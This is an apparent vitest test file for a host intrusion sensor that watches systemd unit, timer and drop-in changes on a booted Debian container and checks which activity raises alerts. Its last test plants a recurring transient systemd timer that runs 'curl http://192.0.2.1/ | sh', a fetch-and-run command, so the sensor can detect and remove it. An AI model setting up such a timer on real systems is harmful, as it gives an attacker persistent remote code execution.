/**
 * The companions on booted hosts: what systemd, packages and administrators do every day gives none of their alerts, and what is done past them does.
 * These hosts number their processes themselves, so there is no map of images: who is to be named has to live a moment, as a person's shell does.
 */
import { beforeAll, describe, expect, test } from 'vitest';
import { noBoot, prepareBase, PROGRAM } from '../helpers/booted.ts';
import { ALICE, PATIENCE_MS, sensing, type Sensing } from '../helpers/service.ts';
import { until } from '../helpers/until.ts';

/** The stock rule has opinions of its own: it also tells of links to timers. */
const STOCK = 'Systemd Timer Created';
const LAST = '/etc/systemd/system/zz-last.service';

/** `rule: path` of every alert of a companion, once all that was done before has been judged. */
async function companions({ host, alerts }: Sensing): Promise<string[]> {
  // The shell lives until its file was seen, so that it is named.
  host.shell(`: > ${LAST}; sleep 1`);
  await until(() => alerts().some(({ event }) => event.file.path === LAST), () => 'the last alert', PATIENCE_MS);
  return [...new Set(alerts().filter(({ rule, event }) => rule.name !== STOCK && event.file.path !== LAST).map(({ rule, event }) => `${rule.name}: ${event.file.path}`))].sort();
}

/** For dpkg(1), which may end within a millisecond of its last file: then nobody could say that it was dpkg. */
const LIVES = '--post-invoke=sleep 1';

/** A package that ships units, a link, a drop-in and a generator, enables its timer as Debian's packages do, and by systemctl, and writes a unit from its script. */
const PACKAGE = `
cd /tmp
mkdir -p package/DEBIAN package/lib/systemd/system/packaged.timer.d package/lib/systemd/system/timers.target.wants package/lib/systemd/system-generators package/usr/lib/systemd/user
printf 'Package: tickward-test\\nVersion: 1\\nArchitecture: all\\nMaintainer: nobody\\nDescription: ships a timer\\n' > package/DEBIAN/control
cat > package/DEBIAN/postinst <<'X'
#!/bin/sh
set -e
deb-systemd-helper unmask packaged.timer
if deb-systemd-helper --quiet was-enabled packaged.timer; then deb-systemd-helper enable packaged.timer; else deb-systemd-helper update-state packaged.timer; fi
systemctl --system daemon-reload
deb-systemd-invoke start packaged.timer
systemctl enable second.timer
printf '[Service]\\nExecStart=/usr/bin/curl http://example.org/\\n' > /etc/systemd/system/written.service
ln -sf ../written.service /etc/systemd/system/multi-user.target.wants/written.service
sleep 1
X
chmod 755 package/DEBIAN/postinst
for name in packaged second; do
  printf '[Timer]\\nOnCalendar=daily\\n[Install]\\nWantedBy=timers.target\\n' > package/lib/systemd/system/$name.timer
  printf '[Service]\\nExecStart=/usr/bin/curl http://example.org/\\n' > package/lib/systemd/system/$name.service
done
printf '[Timer]\\nOnCalendar=hourly\\n' > package/lib/systemd/system/packaged.timer.d/package.conf
printf '[Service]\\nExecStart=/bin/true\\n' > package/usr/lib/systemd/user/packaged.service
printf '#!/bin/sh\\n' > package/lib/systemd/system-generators/packaged
chmod 755 package/lib/systemd/system-generators/packaged
ln -s ../packaged.timer package/lib/systemd/system/timers.target.wants/packaged.timer
dpkg-deb --build --root-owner-group package one.deb
sed -i 's/^Version: 1/Version: 2/' package/DEBIAN/control
dpkg-deb --build --root-owner-group package two.deb`;

/** As a person: systemctl edit asks for a terminal. */
const EDIT = (unit: string, text: string, options = ''): string => `
printf '#!/bin/sh\\nprintf "${text}" > "$1"\\nsleep 0.3\\n' > /root/editor
chmod 755 /root/editor
SYSTEMD_EDITOR=/root/editor script --quiet --return --command 'systemctl edit ${options} ${unit}' /dev/null < /dev/null`;

describe.skipIf(noBoot !== undefined)(`the companions on a booted Debian (${noBoot ?? 'systemd-nspawn'})`, { timeout: 180_000 }, () => {
  let unbuilt: string | undefined;
  beforeAll(() => {
    unbuilt = prepareBase();
  }, 300_000);

  test('a package is installed, upgraded and purged', async ({ skip }) => {
    skip(unbuilt !== undefined, unbuilt);
    const watch = await sensing();
    const { host } = watch;
    expect(host.shell(PACKAGE)).toMatchObject({ status: 0 });
    for (const file of ['one.deb', 'two.deb']) expect(host.run(['apt-get', 'install', '--yes', '--option', `Dpkg::Options::=${LIVES}`, `/tmp/${file}`])).toMatchObject({ status: 0, stdout: expect.stringContaining('Setting up tickward-test') });
    expect(host.run(['dpkg', LIVES, '--purge', 'tickward-test'])).toMatchObject({ status: 0 });
    expect(await companions(watch)).toEqual([]);
    const seen = new Set(watch.events().map(({ file }) => file.path));
    for (const path of ['/usr/lib/systemd/system/packaged.service', '/usr/lib/systemd/system/packaged.timer.d/package.conf', '/usr/lib/systemd/system-generators/packaged', '/etc/systemd/system/timers.target.wants/packaged.timer', '/etc/systemd/system/timers.target.wants/second.timer', '/etc/systemd/system/written.service']) expect(seen).toContain(path);
  });

  test('systemctl enables, disables, masks, limits and reloads; users log in: only what was put there while nothing watched is told of', async ({ skip }) => {
    skip(unbuilt !== undefined, unbuilt);
    const watch = await sensing();
    const { host } = watch;
    const done = host.shell(`
mkdir -p /usr/lib/systemd/user
systemctl stop tickward.service
printf '[Timer]\\nOnCalendar=daily\\n[Install]\\nWantedBy=timers.target\\nAlias=other.timer\\n' > /usr/lib/systemd/system/quiet.timer
printf '[Service]\\nExecStart=/bin/sleep 60\\n[Install]\\nWantedBy=multi-user.target\\nAlias=other.service\\n' > /usr/lib/systemd/system/quiet.service
printf '[Timer]\\nOnCalendar=daily\\n[Install]\\nWantedBy=timers.target\\n' > /usr/lib/systemd/user/quiet.timer
systemctl daemon-reload
systemctl start tickward.service
until [ "$(journalctl --unit=tickward --output=cat | grep -c 'watching by')" = 2 ]; do sleep 0.1; done
for n in 1 2; do systemctl enable --now quiet.timer quiet.service; systemctl disable --now quiet.timer quiet.service; done
systemctl --global enable quiet.timer
systemctl start quiet.service
systemctl set-property quiet.service CPUQuota=10%
systemctl set-property --runtime quiet.service MemoryMax=1G
systemctl mask --now quiet.service
systemctl unmask quiet.service
systemctl daemon-reload
systemctl daemon-reexec
${ALICE}
systemctl restart user@$(id -u alice).service`);
    expect({ status: done.status, said: done.stderr }).toMatchObject({ status: 0 });
    host.as('alice', ['systemctl', '--user', 'daemon-reload']);
    expect(await companions(watch)).toEqual(['system/quiet.service', 'system/quiet.timer', 'user/quiet.timer'].map((path) => `Systemd Unit Changed by a Program That Is Not Known: /usr/lib/systemd/${path}`));
    const seen = new Set(watch.events().map(({ file }) => file.path));
    for (const path of ['/etc/systemd/system/timers.target.wants/quiet.timer', '/etc/systemd/system/other.service', '/etc/systemd/user/timers.target.wants/quiet.timer']) expect(seen).toContain(path);
  });

  test('systemctl edit is told as what it is: a change of the schedule, with low severity; an edit of a limit is not', async ({ skip }) => {
    skip(unbuilt !== undefined, unbuilt);
    const watch = await sensing();
    const { host } = watch;
    host.shell("printf '[Timer]\\nOnCalendar=daily\\n' > /usr/lib/quiet.timer; mv /usr/lib/quiet.timer /usr/lib/systemd/system/; systemctl daemon-reload");
    await watch.event('/usr/lib/systemd/system/quiet.timer', 'rename');
    expect(host.shell(EDIT('quiet.timer', '[Timer]\\\\nOnCalendar=hourly\\\\n'))).toMatchObject({ status: 0 });
    expect(host.shell(EDIT('dbus.service', '[Service]\\\\nMemoryMax=1G\\\\n'))).toMatchObject({ status: 0 });
    const told = await companions(watch);
    expect(told).toEqual(['Systemd Drop-In Changing Commands or Schedule: /etc/systemd/system/quiet.timer.d/override.conf']);
    const [alert] = watch.alerts().filter(({ event }) => event.file.name === 'override.conf');
    expect(alert).toMatchObject({ rule: { severity: 'low' }, event: { process: { executable: '/usr/bin/systemctl' }, tickward: { directives: ['Timer.OnCalendar=hourly'] } } });
    expect(watch.events().map(({ file }) => file.path)).toContain('/etc/systemd/system/dbus.service.d/override.conf');
  });

  test('systemd-run and systemctl link, of root and of a user, and the plan of the response to them', async ({ skip }) => {
    skip(unbuilt !== undefined, unbuilt);
    const watch = await sensing();
    const { host } = watch;
    const uid = host.shell(ALICE).stdout.trim();
    host.shell(`
systemd-run --unit=planted --on-calendar='*:0/1' /bin/sh -c 'curl http://192.0.2.1/ | sh'
printf '[Service]\\nExecStart=/bin/true\\n[Install]\\nWantedBy=multi-user.target\\n' > /opt/linked.service
systemctl enable /opt/linked.service`);
    host.as('alice', ['systemd-run', '--user', '--unit=planted', '--on-active=1h', '/bin/true']);
    const transient = ['/run/systemd/transient/planted.timer', `/run/user/${uid}/systemd/transient/planted.timer`];
    for (const path of transient) await watch.event(path, 'creation');
    expect(await companions(watch)).toEqual([
      ...transient.map((path) => `Systemd Transient Timer Started: ${path}`),
      'Systemd Unit Outside the Usual Directories: /etc/systemd/system/linked.service',
      'Systemd Unit Running From a World-Writable Directory or Fetching From the Network: /run/systemd/transient/planted.service',
    ]);
    const [alert] = watch.alerts().filter(({ event }) => event.file.path === transient[0]);
    const respond = (...options: string[]): object => JSON.parse(host.run([PROGRAM, 'respond', alert?.id ?? '', '--only', 'remove', '--json', ...options]).stdout) as object;
    expect(respond('--dry-run')).toMatchObject({ playbook: 'systemd-timer-transient', steps: [{ id: 'remove', action: 'remove_timer', state: 'would-change' }] });
    expect(respond('--yes')).toMatchObject({ steps: [{ state: 'changed' }] });
    expect(host.run(['systemctl', 'is-active', 'planted.timer']).stdout).toBe('inactive\n');
  });
});
